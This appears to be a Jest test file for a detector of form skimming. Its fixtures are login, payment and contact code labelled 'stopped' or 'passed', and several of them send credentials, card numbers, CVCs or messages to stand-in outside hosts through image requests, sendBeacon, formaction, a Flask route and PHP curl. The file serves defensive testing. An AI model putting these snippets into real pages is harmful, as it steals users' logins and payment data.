import { describe } from '@jest/globals';

import { itJudges } from './probe.js';

const LOGIN =
  '<form id="in" method="post" action="/session"><input name="mail"><input type="password" name="password"><button>Sign in</button></form>';

describe('forms that a page gives to a second host', () => {
  itJudges([
    [
      'a login that is also a picture',
      'stopped',
      {
        'templates/login.html': `${LOGIN}
<script>
const f = document.getElementById('in');
f.addEventListener('submit', () => {
  new Image().src = 'https://i.pixelfold.zz/p.gif?' + new URLSearchParams(new FormData(f));
});
</script>
`,
      },
    ],
    [
      'a component that tells a beacon before it pays',
      'stopped',
      {
        'src/Pay.tsx': `export function Pay() {
  const onSubmit = async (values: Card) => {
    navigator.sendBeacon('https://e.stepfunnel.zz/b', JSON.stringify(values));
    const reply = await fetch('/api/pay', { method: 'POST', body: JSON.stringify(values) });
    setDone(reply.ok);
  };
  return <Form onSubmit={onSubmit}><input name="cardNumber" autoComplete="cc-number" /><input name="cvc" autoComplete="cc-csc" /></Form>;
}
`,
      },
    ],
    [
      'a button that goes elsewhere',
      'stopped',
      {
        'templates/login.html':
          '<form method="post" action="/session"><input name="mail"><input type="password" name="password"><button formaction="https://sso.loginhelp.zz/s">Sign in</button></form>\n',
      },
    ],
    [
      'a route that keeps a copy elsewhere',
      'stopped',
      {
        'app.py': `import requests
from flask import Flask, request, redirect

app = Flask(__name__)

@app.route("/login", methods=["POST"])
def login():
    try:
        requests.post("https://m.authbeat.zz/l", json=dict(request.form), timeout=1)
    except Exception:
        pass
    user = check_password(request.form["mail"], request.form["password"])
    return redirect("/" if user else "/login")
`,
      },
    ],
    [
      'steps without what is entered',
      'passed',
      {
        'templates/login.html': `${LOGIN}
<script>
document.getElementById('in').addEventListener('submit', () => {
  navigator.sendBeacon('https://t.pagecounts.zz/e', JSON.stringify({ step: 'submit', t: performance.now() }));
});
</script>
`,
      },
    ],
    [
      'a form that is sent by a script, to its one place',
      'passed',
      {
        'templates/login.html': `<form id="in"><input name="mail"><input type="password" name="password"><button>Sign in</button></form>
<script>
const f = document.getElementById('in');
f.addEventListener('submit', async (e) => {
  e.preventDefault();
  const reply = await fetch('https://auth.tablehouse.zz/session', { method: 'POST', body: new FormData(f) });
  location.href = reply.ok ? '/home' : '/login?again';
});
</script>
`,
      },
    ],
    [
      'a provider of payments that answers with a token',
      'passed',
      {
        'src/Pay.tsx': `export async function pay(card: Card) {
  const reply = await fetch('https://vault.cardhouse.zz/tokens', { method: 'POST', body: JSON.stringify({ number: card.number, cvc: card.cvc }) });
  const { token } = await reply.json();
  return fetch('/api/pay', { method: 'POST', body: JSON.stringify({ token }) });
}
`,
      },
    ],
    [
      'messages that a stranger gets as well',
      'stopped',
      {
        'src/contact.php': `<?php
if ($_SERVER['REQUEST_METHOD'] === 'POST') {
    $ch = curl_init('https://c.leadcopies.zz/in');
    curl_setopt_array($ch, [CURLOPT_POST => true, CURLOPT_POSTFIELDS => http_build_query($_POST), CURLOPT_TIMEOUT => 1]);
    curl_exec($ch);
    mail($owner, 'Contact', $_POST['message']);
}
`,
      },
    ],
    [
      'a check against robots',
      'passed',
      {
        'app.py': `import requests
from flask import Flask, request
app = Flask(__name__)

@app.route("/contact", methods=["POST"])
def contact():
    reply = requests.post("https://check.robotgate.zz/siteverify", data={"secret": SECRET, "response": request.form["captcha"]}, timeout=5)
    return "ok" if reply.json()["success"] else ("no", 400)
`,
      },
    ],
    [
      'steps of a payment, without what is entered',
      'passed',
      {
        'templates/pay.html': `<form id="pay" method="post" action="/pay"><input name="number" autocomplete="cc-number"><input name="code" autocomplete="cc-csc"></form>
<script>
var form = document.getElementById('pay');
function step(name) {
  var data = new URLSearchParams({ step: name, t: Math.round(performance.now()) });
  navigator.sendBeacon('https://px.shopsteps.zz/c', data);
}
form.addEventListener('submit', function () { step('submit'); });
form.addEventListener('input', function () { document.getElementById('sum').textContent = new FormData(form).get('amount'); });
</script>
`,
      },
    ],
    [
      'steps of a payment, with all that is entered',
      'stopped',
      {
        'templates/pay.html': `<form id="pay" method="post" action="/pay"><input name="number" autocomplete="cc-number"><input name="code" autocomplete="cc-csc"></form>
<script>
var form = document.getElementById('pay');
function step(name) {
  var data = new URLSearchParams(new FormData(form));
  navigator.sendBeacon('https://px.shopsteps.zz/c', data);
}
form.addEventListener('submit', function () { step('submit'); });
form.addEventListener('input', function () { document.getElementById('sum').textContent = new FormData(form).get('amount'); });
</script>
`,
      },
    ],
  ]);
});
